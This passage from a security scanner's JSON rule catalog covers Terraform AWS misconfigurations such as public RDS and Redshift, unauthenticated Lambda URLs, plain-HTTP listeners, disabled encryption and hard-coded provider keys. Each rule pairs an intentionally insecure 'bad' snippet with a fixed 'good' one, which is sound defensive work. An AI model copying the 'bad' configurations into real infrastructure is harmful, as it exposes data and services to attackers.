    "references": [
      "https://docs.aws.amazon.com/lambda/latest/dg/configuration-envvars.html#configuration-envvars-encryption",
      "https://docs.aws.amazon.com/secretsmanager/latest/userguide/retrieving-secrets_lambda.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/lambda_function#environment"
    ],
    "checkov": [
      "CKV_AWS_45"
    ],
    "precision": "medium",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:lambda",
      "owasp:A07:2021"
    ]
  },
  {
    "id": "iac/aws-lambda-function-url-no-auth",
    "title": "Lambda function URL has no authentication",
    "severity": "medium",
    "cwe": [
      "CWE-306"
    ],
    "description": "A function URL with `authorization_type = \"NONE\"` is a public HTTPS endpoint: anyone can invoke the function (and run up its cost). It is right only for functions that authenticate requests themselves, such as webhook receivers that verify a signature; suppress those with a reason.",
    "help": {
      "bad": "resource \"aws_lambda_function_url\" \"api\" {\n  function_name      = \"api\"\n  authorization_type = \"NONE\"\n}\n",
      "good": "resource \"aws_lambda_function_url\" \"api\" {\n  function_name      = \"api\"\n  authorization_type = \"AWS_IAM\"\n}\n",
      "fix": "Use `authorization_type = \"AWS_IAM\"` and sign requests with SigV4 (or put API Gateway with an authorizer in front)."
    },
    "references": [
      "https://docs.aws.amazon.com/lambda/latest/dg/urls-auth.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/lambda_function_url"
    ],
    "checkov": [
      "CKV_AWS_258"
    ],
    "precision": "medium",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:lambda",
      "owasp:A01:2021"
    ]
  },
  {
    "id": "iac/aws-lambda-tracing-disabled",
    "title": "Lambda function has no X-Ray tracing configuration",
    "severity": "low",
    "cwe": [
      "CWE-778"
    ],
    "description": "X-Ray tracing (`tracing_config`) records invocations and their calls to other services, which helps to follow a suspicious request across a serverless application. `mode = \"Active\"` samples requests itself; `\"PassThrough\"` traces the requests that arrive already sampled (from API Gateway, say). A function without `tracing_config` is not traced.",
    "help": {
      "bad": "resource \"aws_lambda_function\" \"api\" {\n  function_name = \"api\"\n  role          = \"arn:aws:iam::111122223333:role/api-lambda\"\n  runtime       = \"nodejs20.x\"\n  handler       = \"index.handler\"\n  filename      = \"api.zip\"\n}\n",
      "good": "resource \"aws_lambda_function\" \"api\" {\n  function_name = \"api\"\n  role          = \"arn:aws:iam::111122223333:role/api-lambda\"\n  runtime       = \"nodejs20.x\"\n  handler       = \"index.handler\"\n  filename      = \"api.zip\"\n\n  tracing_config {\n    mode = \"Active\"\n  }\n}\n",
      "fix": "Add `tracing_config { mode = \"Active\" }` and allow the role `xray:PutTraceSegments` (the `AWSXRayDaemonWriteAccess` policy)."
    },
    "references": [
      "https://docs.aws.amazon.com/lambda/latest/dg/services-xray.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/lambda_function#tracing_config"
    ],
    "checkov": [
      "CKV_AWS_50"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:lambda",
      "owasp:A09:2021"
    ]
  },
  {
    "id": "iac/aws-lb-access-logs-disabled",
    "title": "Load balancer access logs are not enabled",
    "severity": "low",
    "cwe": [
      "CWE-778"
    ],
    "description": "Access logs record every request the load balancer receives (client IP, path, status, TLS details) and are often the only record of an attack against the application. For `aws_lb` / `aws_alb` the `access_logs` block must set `enabled = true` (its default is `false` even when a bucket is given); for classic `aws_elb` an `access_logs` block is enabled unless it says otherwise. Gateway load balancers, which have no access logs, are skipped.",
    "help": {
      "bad": "resource \"aws_lb\" \"web\" {\n  name    = \"web\"\n  subnets = [\"subnet-0123456789abcdef0\", \"subnet-0fedcba9876543210\"]\n}\n",
      "good": "resource \"aws_lb\" \"web\" {\n  name    = \"web\"\n  subnets = [\"subnet-0123456789abcdef0\", \"subnet-0fedcba9876543210\"]\n\n  access_logs {\n    bucket  = \"example-lb-logs\"\n    prefix  = \"web\"\n    enabled = true\n  }\n}\n",
      "fix": "Add an `access_logs` block with a bucket and `enabled = true`."
    },
    "references": [
      "https://docs.aws.amazon.com/elasticloadbalancing/latest/application/enable-access-logging.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/lb#access_logs"
    ],
    "checkov": [
      "CKV_AWS_91",
      "CKV_AWS_92"
    ],
    "precision": "medium",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:elb",
      "owasp:A09:2021"
    ]
  },
  {
    "id": "iac/aws-lb-http-listener",
    "title": "Load balancer listener serves plain HTTP without redirecting to HTTPS",
    "severity": "medium",
    "cwe": [
      "CWE-319"
    ],
    "description": "A listener with `protocol = \"HTTP\"` whose default action forwards traffic sends requests, cookies and credentials in clear text across the network. An HTTP listener is fine when its default action redirects to HTTPS. Checked on `aws_lb_listener` and `aws_alb_listener`.",
    "help": {
      "bad": "resource \"aws_lb_listener\" \"web\" {\n  load_balancer_arn = \"arn:aws:elasticloadbalancing:eu-west-1:111122223333:loadbalancer/app/web/50dc6c495c0c9188\"\n  port              = 80\n  protocol          = \"HTTP\"\n\n  default_action {\n    type             = \"forward\"\n    target_group_arn = \"arn:aws:elasticloadbalancing:eu-west-1:111122223333:targetgroup/web/73e2d6bc24d8a067\"\n  }\n}\n",
      "good": "resource \"aws_lb_listener\" \"web\" {\n  load_balancer_arn = \"arn:aws:elasticloadbalancing:eu-west-1:111122223333:loadbalancer/app/web/50dc6c495c0c9188\"\n  port              = 80\n  protocol          = \"HTTP\"\n\n  default_action {\n    type = \"redirect\"\n    redirect {\n      port        = \"443\"\n      protocol    = \"HTTPS\"\n      status_code = \"HTTP_301\"\n    }\n  }\n}\n",
      "fix": "Serve the application on an HTTPS listener and make the HTTP listener's default action a redirect to HTTPS."
    },
    "references": [
      "https://docs.aws.amazon.com/elasticloadbalancing/latest/application/load-balancer-listeners.html#redirect-actions",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/lb_listener"
    ],
    "checkov": [
      "CKV_AWS_2",
      "CKV2_AWS_20"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:elb",
      "owasp:A02:2021"
    ]
  },
  {
    "id": "iac/aws-lb-invalid-headers-not-dropped",
    "title": "Application load balancer does not drop invalid HTTP headers",
    "severity": "low",
    "cwe": [
      "CWE-444"
    ],
    "description": "With `drop_invalid_header_fields = false` (the default), an application load balancer forwards header names that do not conform to RFC 7230, which helps HTTP request smuggling and header injection against back ends that parse them differently. Checked on `aws_lb` / `aws_alb` of type `application` (the default type).",
    "help": {
      "bad": "resource \"aws_lb\" \"web\" {\n  name               = \"web\"\n  load_balancer_type = \"application\"\n  subnets            = [\"subnet-0123456789abcdef0\", \"subnet-0fedcba9876543210\"]\n}\n",
      "good": "resource \"aws_lb\" \"web\" {\n  name                       = \"web\"\n  load_balancer_type         = \"application\"\n  subnets                    = [\"subnet-0123456789abcdef0\", \"subnet-0fedcba9876543210\"]\n  drop_invalid_header_fields = true\n}\n",
      "fix": "Set `drop_invalid_header_fields = true`."
    },
    "references": [
      "https://docs.aws.amazon.com/elasticloadbalancing/latest/application/application-load-balancers.html#load-balancer-attributes",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/lb#drop_invalid_header_fields"
    ],
    "checkov": [
      "CKV_AWS_131"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:elb",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/aws-lb-outdated-tls-policy",
    "title": "Load balancer listener accepts TLS 1.0 or 1.1",
    "severity": "medium",
    "cwe": [
      "CWE-327"
    ],
    "description": "Security policies such as `ELBSecurityPolicy-2016-08`, `ELBSecurityPolicy-TLS-1-1-2017-01` or `ELBSecurityPolicy-TLS13-1-0-2021-06` still negotiate TLS 1.0/1.1, deprecated by RFC 8996 and refused by PCI DSS. Checked on the `ssl_policy` of `aws_lb_listener` and `aws_alb_listener`; listeners that do not set it get the current AWS default and are not flagged.",
    "help": {
      "bad": "resource \"aws_lb_listener\" \"web\" {\n  load_balancer_arn = \"arn:aws:elasticloadbalancing:eu-west-1:111122223333:loadbalancer/app/web/50dc6c495c0c9188\"\n  port              = 443\n  protocol          = \"HTTPS\"\n  ssl_policy        = \"ELBSecurityPolicy-2016-08\"\n  certificate_arn   = \"arn:aws:acm:eu-west-1:111122223333:certificate/9f3e6a9c-2b1d-4c6e-8f0a-1234567890ab\"\n\n  default_action {\n    type             = \"forward\"\n    target_group_arn = \"arn:aws:elasticloadbalancing:eu-west-1:111122223333:targetgroup/web/73e2d6bc24d8a067\"\n  }\n}\n",
      "good": "resource \"aws_lb_listener\" \"web\" {\n  load_balancer_arn = \"arn:aws:elasticloadbalancing:eu-west-1:111122223333:loadbalancer/app/web/50dc6c495c0c9188\"\n  port              = 443\n  protocol          = \"HTTPS\"\n  ssl_policy        = \"ELBSecurityPolicy-TLS13-1-2-2021-06\"\n  certificate_arn   = \"arn:aws:acm:eu-west-1:111122223333:certificate/9f3e6a9c-2b1d-4c6e-8f0a-1234567890ab\"\n\n  default_action {\n    type             = \"forward\"\n    target_group_arn = \"arn:aws:elasticloadbalancing:eu-west-1:111122223333:targetgroup/web/73e2d6bc24d8a067\"\n  }\n}\n",
      "fix": "Use `ELBSecurityPolicy-TLS13-1-2-2021-06` (or another TLS 1.2+ policy)."
    },
    "references": [
      "https://docs.aws.amazon.com/elasticloadbalancing/latest/application/describe-ssl-policies.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/lb_listener#ssl_policy"
    ],
    "checkov": [
      "CKV_AWS_103"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:elb",
      "owasp:A02:2021"
    ]
  },
  {
    "id": "iac/aws-opensearch-https-not-enforced",
    "title": "OpenSearch domain accepts plain HTTP",
    "severity": "medium",
    "cwe": [
      "CWE-319"
    ],
    "description": "`domain_endpoint_options { enforce_https = false }` lets clients send queries, documents and credentials to the domain endpoint over plain HTTP. The provider defaults `enforce_https` to `true`, so only an explicit `false` is flagged. Checked on `aws_opensearch_domain` and `aws_elasticsearch_domain`.",
    "help": {
      "bad": "resource \"aws_opensearch_domain\" \"search\" {\n  domain_name    = \"search\"\n  engine_version = \"OpenSearch_2.13\"\n\n  domain_endpoint_options {\n    enforce_https = false\n  }\n}\n",
      "good": "resource \"aws_opensearch_domain\" \"search\" {\n  domain_name    = \"search\"\n  engine_version = \"OpenSearch_2.13\"\n\n  domain_endpoint_options {\n    enforce_https       = true\n    tls_security_policy = \"Policy-Min-TLS-1-2-2019-07\"\n  }\n}\n",
      "fix": "Add `domain_endpoint_options { enforce_https = true, tls_security_policy = \"Policy-Min-TLS-1-2-2019-07\" }`."
    },
    "references": [
      "https://docs.aws.amazon.com/opensearch-service/latest/developerguide/infrastructure-security.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/opensearch_domain#domain_endpoint_options"
    ],
    "checkov": [
      "CKV_AWS_83"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:opensearch",
      "owasp:A02:2021"
    ]
  },
  {
    "id": "iac/aws-opensearch-node-to-node-encryption-disabled",
    "title": "OpenSearch domain does not encrypt traffic between nodes",
    "severity": "medium",
    "cwe": [
      "CWE-319"
    ],
    "description": "Without `node_to_node_encryption { enabled = true }`, the nodes of an OpenSearch / Elasticsearch domain exchange documents and queries in clear text inside the VPC. It is off by default and required for fine-grained access control. Single-node domains (`cluster_config.instance_count` of 1, the default) are skipped.",
    "help": {
      "bad": "resource \"aws_opensearch_domain\" \"search\" {\n  domain_name    = \"search\"\n  engine_version = \"OpenSearch_2.13\"\n\n  cluster_config {\n    instance_count = 3\n  }\n}\n",
      "good": "resource \"aws_opensearch_domain\" \"search\" {\n  domain_name    = \"search\"\n  engine_version = \"OpenSearch_2.13\"\n\n  cluster_config {\n    instance_count = 3\n  }\n\n  node_to_node_encryption {\n    enabled = true\n  }\n}\n",
      "fix": "Add `node_to_node_encryption { enabled = true }`."
    },
    "references": [
      "https://docs.aws.amazon.com/opensearch-service/latest/developerguide/ntn.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/opensearch_domain#node_to_node_encryption"
    ],
    "checkov": [
      "CKV_AWS_6"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:opensearch",
      "owasp:A02:2021"
    ]
  },
  {
    "id": "iac/aws-opensearch-not-encrypted-at-rest",
    "title": "OpenSearch domain is not encrypted at rest",
    "severity": "medium",
    "cwe": [
      "CWE-311"
    ],
    "description": "Encryption at rest protects the indexes, logs, swap files and automated snapshots of an OpenSearch / Elasticsearch domain; it is off unless `encrypt_at_rest { enabled = true }`, and it is required for fine-grained access control. Checked on `aws_opensearch_domain` and `aws_elasticsearch_domain`.",
    "help": {
      "bad": "resource \"aws_opensearch_domain\" \"search\" {\n  domain_name    = \"search\"\n  engine_version = \"OpenSearch_2.13\"\n}\n",
      "good": "resource \"aws_opensearch_domain\" \"search\" {\n  domain_name    = \"search\"\n  engine_version = \"OpenSearch_2.13\"\n\n  encrypt_at_rest {\n    enabled = true\n  }\n}\n",
      "fix": "Add `encrypt_at_rest { enabled = true }` (optionally with `kms_key_id`)."
    },
    "references": [
      "https://docs.aws.amazon.com/opensearch-service/latest/developerguide/encryption-at-rest.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/opensearch_domain#encrypt_at_rest"
    ],
    "checkov": [
      "CKV_AWS_5"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:opensearch",
      "owasp:A02:2021"
    ]
  },
  {
    "id": "iac/aws-opensearch-not-in-vpc",
    "title": "OpenSearch domain has a public endpoint",
    "severity": "low",
    "cwe": [
      "CWE-284"
    ],
    "description": "A domain without `vpc_options` gets an internet-facing endpoint, protected only by its access policy and fine-grained access control; one permissive policy statement exposes the whole cluster (a frequent source of data leaks). Placing the domain in a VPC adds security groups and keeps it off the internet.",
    "help": {
      "bad": "resource \"aws_opensearch_domain\" \"search\" {\n  domain_name    = \"search\"\n  engine_version = \"OpenSearch_2.13\"\n}\n",
      "good": "resource \"aws_opensearch_domain\" \"search\" {\n  domain_name    = \"search\"\n  engine_version = \"OpenSearch_2.13\"\n\n  vpc_options {\n    subnet_ids         = [\"subnet-0123456789abcdef0\"]\n    security_group_ids = [\"sg-0123456789abcdef0\"]\n  }\n}\n",
      "fix": "Create the domain with `vpc_options` (subnets and security groups); the choice cannot be changed later."
    },
    "references": [
      "https://docs.aws.amazon.com/opensearch-service/latest/developerguide/vpc.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/opensearch_domain#vpc_options"
    ],
    "checkov": [
      "CKV_AWS_137"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:opensearch",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/aws-provider-hardcoded-credentials",
    "title": "AWS provider has hard-coded access keys",
    "severity": "critical",
    "cwe": [
      "CWE-798"
    ],
    "description": "An `access_key` / `secret_key` written in the `provider \"aws\"` block (directly or through a variable default) is committed with the code, copied to every clone and CI log, and grants whatever the key can do until it is rotated. Providers that point at a mock endpoint (`skip_credentials_validation = true`) or use placeholder values such as `\"test\"` are not flagged.",
    "help": {
      "bad": "provider \"aws\" {\n  region     = \"eu-west-1\"\n  access_key = \"AKIAQWERTYUIOPASDFGH\"\n  secret_key = \"q9T4zW2mXr7LpB8vN3cK6yH1dJ5sF0gA2eU7iO4w\"\n}\n",
      "good": "provider \"aws\" {\n  region  = \"eu-west-1\"\n  profile = \"deploy\"\n}\n",
      "fix": "Delete the keys from the code and deactivate them; use environment variables, a shared credentials profile, SSO or an assumed role (OIDC in CI) instead."
    },
    "references": [
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs#authentication-and-configuration",
      "https://docs.aws.amazon.com/IAM/latest/UserGuide/best-practices.html#bp-workloads-use-roles"
    ],
    "checkov": [
      "CKV_AWS_41"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:iam",
      "owasp:A07:2021"
    ]
  },
  {
    "id": "iac/aws-rds-backup-disabled",
    "title": "RDS automated backups are disabled",
    "severity": "medium",
    "cwe": [
      "CWE-693"
    ],
    "description": "`backup_retention_period = 0` turns off automated backups and point-in-time recovery: a bad migration, a deleted table or ransomware leaves nothing to restore from. Read replicas (`replicate_source_db`) are not flagged, since they are commonly run without their own backups.",
    "help": {
      "bad": "resource \"aws_db_instance\" \"app\" {\n  identifier                  = \"app\"\n  engine                      = \"mysql\"\n  instance_class              = \"db.t4g.micro\"\n  allocated_storage           = 20\n  username                    = \"app\"\n  manage_master_user_password = true\n  storage_encrypted           = true\n  backup_retention_period     = 0\n}\n",
      "good": "resource \"aws_db_instance\" \"app\" {\n  identifier                  = \"app\"\n  engine                      = \"mysql\"\n  instance_class              = \"db.t4g.micro\"\n  allocated_storage           = 20\n  username                    = \"app\"\n  manage_master_user_password = true\n  storage_encrypted           = true\n  backup_retention_period     = 14\n}\n",
      "fix": "Set `backup_retention_period` to 7 days or more (up to 35)."
    },
    "references": [
      "https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/USER_WorkingWithAutomatedBackups.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/db_instance#backup_retention_period"
    ],
    "checkov": [
      "CKV_AWS_133"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:rds",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/aws-rds-deletion-protection-disabled",
    "title": "RDS deletion protection is not enabled",
    "severity": "low",
    "cwe": [
      "CWE-693"
    ],
    "description": "With `deletion_protection` off (the default), a `terraform destroy`, a renamed resource or a compromised credential can delete the database in one call. Checked on `aws_db_instance` and `aws_rds_cluster`.",
    "help": {
      "bad": "resource \"aws_rds_cluster\" \"orders\" {\n  cluster_identifier          = \"orders\"\n  engine                      = \"aurora-mysql\"\n  master_username             = \"app\"\n  manage_master_user_password = true\n  storage_encrypted           = true\n}\n",
      "good": "resource \"aws_rds_cluster\" \"orders\" {\n  cluster_identifier          = \"orders\"\n  engine                      = \"aurora-mysql\"\n  master_username             = \"app\"\n  manage_master_user_password = true\n  storage_encrypted           = true\n  deletion_protection         = true\n}\n",
      "fix": "Set `deletion_protection = true` for production databases."
    },
    "references": [
      "https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/USER_DeleteInstance.html#USER_DeleteInstance.DeletionProtection",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/rds_cluster#deletion_protection"
    ],
    "checkov": [
      "CKV_AWS_293",
      "CKV_AWS_139"
    ],
    "precision": "medium",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:rds",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/aws-rds-iam-authentication-disabled",
    "title": "RDS IAM database authentication is not enabled",
    "severity": "low",
    "cwe": [
      "CWE-287"
    ],
    "description": "IAM database authentication replaces long-lived database passwords with 15-minute tokens tied to IAM roles, so access follows IAM and is logged in CloudTrail. Checked on `aws_db_instance` and `aws_rds_cluster` for the engines that support it (MySQL, MariaDB, PostgreSQL and Aurora); unknown engines and read replicas are skipped.",
    "help": {
      "bad": "resource \"aws_db_instance\" \"app\" {\n  identifier                  = \"app\"\n  engine                      = \"postgres\"\n  instance_class              = \"db.t4g.micro\"\n  allocated_storage           = 20\n  username                    = \"app\"\n  manage_master_user_password = true\n  storage_encrypted           = true\n}\n",
      "good": "resource \"aws_db_instance\" \"app\" {\n  identifier                          = \"app\"\n  engine                              = \"postgres\"\n  instance_class                      = \"db.t4g.micro\"\n  allocated_storage                   = 20\n  username                            = \"app\"\n  manage_master_user_password         = true\n  storage_encrypted                   = true\n  iam_database_authentication_enabled = true\n}\n",
      "fix": "Set `iam_database_authentication_enabled = true` and have applications connect with `rds:GenerateDBAuthToken` tokens."
    },
    "references": [
      "https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/UsingWithRDS.IAMDBAuth.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/db_instance#iam_database_authentication_enabled"
    ],
    "checkov": [
      "CKV_AWS_161",
      "CKV_AWS_162"
    ],
    "precision": "medium",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:rds",
      "owasp:A07:2021"
    ]
  },
  {
    "id": "iac/aws-rds-publicly-accessible",
    "title": "RDS database instance is publicly accessible",
    "severity": "high",
    "cwe": [
      "CWE-284"
    ],
    "description": "`publicly_accessible = true` gives the database instance a public DNS name and IP address, so anyone can reach its port whenever a security group or network ACL allows it, and attackers only need a password. Checked on `aws_db_instance` and Aurora `aws_rds_cluster_instance`; the default (`false`) is fine.",
    "help": {
      "bad": "resource \"aws_db_instance\" \"app\" {\n  identifier                  = \"app\"\n  engine                      = \"postgres\"\n  instance_class              = \"db.t4g.micro\"\n  allocated_storage           = 20\n  username                    = \"app\"\n  manage_master_user_password = true\n  storage_encrypted           = true\n  publicly_accessible         = true\n}\n",
      "good": "resource \"aws_db_instance\" \"app\" {\n  identifier                  = \"app\"\n  engine                      = \"postgres\"\n  instance_class              = \"db.t4g.micro\"\n  allocated_storage           = 20\n  username                    = \"app\"\n  manage_master_user_password = true\n  storage_encrypted           = true\n  publicly_accessible         = false\n}\n",
      "fix": "Set `publicly_accessible = false`, place the database in private subnets and reach it through the application, a VPN or Session Manager port forwarding."
    },
    "references": [
      "https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/USER_VPC.WorkingWithRDSInstanceinaVPC.html#USER_VPC.Hiding",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/db_instance#publicly_accessible"
    ],
    "checkov": [
      "CKV_AWS_17"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:rds",
      "owasp:A01:2021"
    ]
  },
  {
    "id": "iac/aws-rds-storage-not-encrypted",
    "title": "RDS storage is not encrypted",
    "severity": "high",
    "cwe": [
      "CWE-311"
    ],
    "description": "RDS and Aurora encrypt storage, automated backups, read replicas and snapshots only when `storage_encrypted = true`; the API default is unencrypted, and encryption cannot be turned on later without a snapshot-and-restore migration. Checked on `aws_db_instance` and `aws_rds_cluster`. Read replicas, restores from snapshots and global cluster members inherit their source's encryption and are not flagged; neither is Aurora Serverless v1 (`engine_mode = \"serverless\"`), which is always encrypted.",
    "help": {
      "bad": "resource \"aws_rds_cluster\" \"app\" {\n  cluster_identifier          = \"app\"\n  engine                      = \"aurora-postgresql\"\n  master_username             = \"app\"\n  manage_master_user_password = true\n}\n",
      "good": "resource \"aws_rds_cluster\" \"app\" {\n  cluster_identifier          = \"app\"\n  engine                      = \"aurora-postgresql\"\n  master_username             = \"app\"\n  manage_master_user_password = true\n  storage_encrypted           = true\n  kms_key_id                  = \"arn:aws:kms:eu-west-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab\"\n}\n",
      "fix": "Set `storage_encrypted = true` (with `kms_key_id` for a customer managed key). For an existing database, restore an encrypted copy of a snapshot."
    },
    "references": [
      "https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/Overview.Encryption.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/db_instance#storage_encrypted"
    ],
    "checkov": [
      "CKV_AWS_16",
      "CKV_AWS_96"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:rds",
      "owasp:A02:2021"
    ]
  },
  {
    "id": "iac/aws-redshift-not-encrypted",
    "title": "Redshift cluster encryption is turned off",
    "severity": "medium",
    "cwe": [
      "CWE-311"
    ],
    "description": "`encrypted = false` stores the data warehouse, its backups and snapshots unencrypted. Since January 2025 Redshift encrypts new provisioned clusters by default (and AWS provider v6 defaults `encrypted` to `true`), so only an explicit `false` is flagged.",
    "help": {
      "bad": "resource \"aws_redshift_cluster\" \"dwh\" {\n  cluster_identifier     = \"dwh\"\n  node_type              = \"ra3.xlplus\"\n  master_username        = \"admin_user\"\n  manage_master_password = true\n  encrypted              = false\n}\n",
      "good": "resource \"aws_redshift_cluster\" \"dwh\" {\n  cluster_identifier     = \"dwh\"\n  node_type              = \"ra3.xlplus\"\n  master_username        = \"admin_user\"\n  manage_master_password = true\n  encrypted              = true\n  kms_key_id             = \"arn:aws:kms:eu-west-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab\"\n}\n",
      "fix": "Set `encrypted = true` (with `kms_key_id` for a customer managed key)."
    },
    "references": [
      "https://docs.aws.amazon.com/redshift/latest/mgmt/working-with-db-encryption.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/redshift_cluster#encrypted"
    ],
    "checkov": [
      "CKV_AWS_64"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:redshift",
      "owasp:A02:2021"
    ]
  },
  {
    "id": "iac/aws-redshift-publicly-accessible",
    "title": "Redshift cluster is publicly accessible",
    "severity": "high",
    "cwe": [
      "CWE-284"
    ],
    "description": "`publicly_accessible = true` gives the cluster a public IP address, so the data warehouse is one permissive security group rule away from the internet. Older AWS provider versions defaulted to `true`; only an explicit `true` is flagged here, since current versions and the AWS API default to private clusters.",
    "help": {
      "bad": "resource \"aws_redshift_cluster\" \"dwh\" {\n  cluster_identifier     = \"dwh\"\n  node_type              = \"ra3.xlplus\"\n  master_username        = \"admin_user\"\n  manage_master_password = true\n  encrypted              = true\n  publicly_accessible    = true\n}\n",
      "good": "resource \"aws_redshift_cluster\" \"dwh\" {\n  cluster_identifier     = \"dwh\"\n  node_type              = \"ra3.xlplus\"\n  master_username        = \"admin_user\"\n  manage_master_password = true\n  encrypted              = true\n  publicly_accessible    = false\n}\n",
      "fix": "Set `publicly_accessible = false` and reach the cluster from inside the VPC."
    },
    "references": [
      "https://docs.aws.amazon.com/redshift/latest/mgmt/managing-clusters-vpc.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/redshift_cluster#publicly_accessible"
    ],
    "checkov": [
      "CKV_AWS_87"
    ],
    "precision": "high",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:redshift",
      "owasp:A01:2021"
    ]
  },
  {
    "id": "iac/aws-s3-bucket-access-logging-disabled",
    "title": "S3 bucket access logging is not enabled",
    "severity": "low",
    "cwe": [
      "CWE-778"
    ],
    "description": "Server access logs record every request made to the bucket and are the evidence needed to investigate a leak. Logging is enabled by the legacy inline `logging` block or a separate `aws_s3_bucket_logging` resource (AWS provider v4+). Buckets that themselves receive logs (targets of access logging, CloudTrail, load balancer, CloudFront or flow logs) are not flagged, since logging them into themselves or another log bucket adds little.",
    "help": {
      "bad": "resource \"aws_s3_bucket\" \"data\" {\n  bucket = \"example-data\"\n}\n",
      "good": "resource \"aws_s3_bucket\" \"data\" {\n  bucket = \"example-data\"\n}\n\nresource \"aws_s3_bucket\" \"logs\" {\n  bucket = \"example-logs\"\n}\n\nresource \"aws_s3_bucket_logging\" \"data\" {\n  bucket        = aws_s3_bucket.data.id\n  target_bucket = aws_s3_bucket.logs.id\n  target_prefix = \"s3/data/\"\n}\n",
      "fix": "Add an `aws_s3_bucket_logging` resource that delivers the access logs to a dedicated log bucket (or use CloudTrail S3 data events)."
    },
    "references": [
      "https://docs.aws.amazon.com/AmazonS3/latest/userguide/ServerLogs.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/s3_bucket_logging"
    ],
    "checkov": [
      "CKV_AWS_18"
    ],
    "precision": "medium",
    "platform": "terraform",
    "provider": "aws",
    "tags": [
      "terraform",
      "aws",
      "aws:s3",
      "owasp:A09:2021"
    ]
  },
  {
    "id": "iac/aws-s3-bucket-not-kms-encrypted",
    "title": "S3 bucket is not encrypted with a KMS key",
    "severity": "low",
    "cwe": [
      "CWE-311"
    ],
    "description": "Since January 2023 S3 encrypts every new object with S3-managed keys (SSE-S3), so a bucket can no longer be unencrypted and this rule does not report a missing encryption configuration as an exposure. SSE-KMS (`aws:kms` or `aws:kms:dsse`) adds a separate permission on the key, CloudTrail records of key use and the option to revoke access by disabling the key. Both the legacy inline `server_side_encryption_configuration` block and the separate `aws_s3_bucket_server_side_encryption_configuration` resource count.",
    "help": {
      "bad": "resource \"aws_s3_bucket\" \"records\" {\n  bucket = \"example-records\"\n}\n",
      "good": "resource \"aws_s3_bucket\" \"records\" {\n  bucket = \"example-records\"\n}\n\nresource \"aws_s3_bucket_server_side_encryption_configuration\" \"records\" {\n  bucket = aws_s3_bucket.records.id\n\n  rule {\n    apply_server_side_encryption_by_default {\n      sse_algorithm     = \"aws:kms\"\n      kms_master_key_id = \"arn:aws:kms:eu-west-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab\"\n    }\n    bucket_key_enabled = true\n  }\n}\n",
      "fix": "Configure default encryption with `sse_algorithm = \"aws:kms\"` and a customer managed key for buckets holding sensitive data."
    },
    "references": [
      "https://docs.aws.amazon.com/AmazonS3/latest/userguide/default-encryption-faq.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/s3_bucket_server_side_encryption_configuration"
    ],
    "checkov": [
      "CKV_AWS_145"
